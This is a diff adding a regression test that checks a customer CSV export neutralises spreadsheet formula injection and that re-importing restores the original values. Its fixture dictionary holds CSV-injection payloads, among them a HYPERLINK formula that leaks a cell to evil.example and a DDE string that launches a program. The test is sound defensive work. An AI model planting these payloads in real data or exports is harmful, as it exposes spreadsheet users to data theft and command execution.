@@ -268,3 +268,44 @@ def test_adding_an_api_key_shows_the_credentials_once(admin_client):
     assert key.consumer_secret in message
     assert key.truncated_key in message
     assert key.consumer_key not in response.content.decode()  # the hash is never shown
+
+
+FORMULAS = {
+    "first_name": '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
+    "last_name": "+1+cmd|' /C calc'!A0",
+    "billing_city": "-2+3",
+    "billing_company": "@SUM(1,2)",
+    "billing_phone": "+1 555 0100",
+}
+
+
+def test_a_csv_export_writes_no_formula_and_imports_back_unchanged(admin_client, api):
+    body = {
+        "email": "formula@example.com",
+        "first_name": FORMULAS["first_name"],
+        "last_name": FORMULAS["last_name"],
+        "billing": {"city": "-2+3", "company": "@SUM(1,2)", "phone": "+1 555 0100"},
+    }
+    created = api.post("/wp-json/wc/v3/customers", body, format="json")
+    assert created.status_code == 201, created.content
+    response = admin_client.post(reverse("admin:customers_customer_export"), {"format": "0", **_all_export_fields()})
+    exported = response.content.decode("utf-8-sig")
+    [row] = csv.DictReader(io.StringIO(exported))
+    for column, value in FORMULAS.items():
+        assert row[column] == f"'{value}", column
+    # Every cell of the file: none starts a formula.
+    for cells in csv.reader(io.StringIO(exported)):
+        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+    upload = io.BytesIO(exported.encode())
+    upload.name = "customers.csv"
+    preview = admin_client.post(
+        reverse("admin:customers_customer_import"), {"import_file": upload, "format": "0", "resource": "0"}
+    )
+    assert not preview.context["result"].has_validation_errors()
+    confirm = preview.context["confirm_form"]
+    assert admin_client.post(reverse("admin:customers_customer_process_import"), confirm.initial).status_code == 302
+    stored = api.get(f"/wp-json/wc/v3/customers/{created.json()['id']}").json()
+    assert (stored["first_name"], stored["last_name"]) == (FORMULAS["first_name"], FORMULAS["last_name"])
+    assert stored["billing"]["city"] == "-2+3"
+    assert stored["billing"]["phone"] == "+1 555 0100"
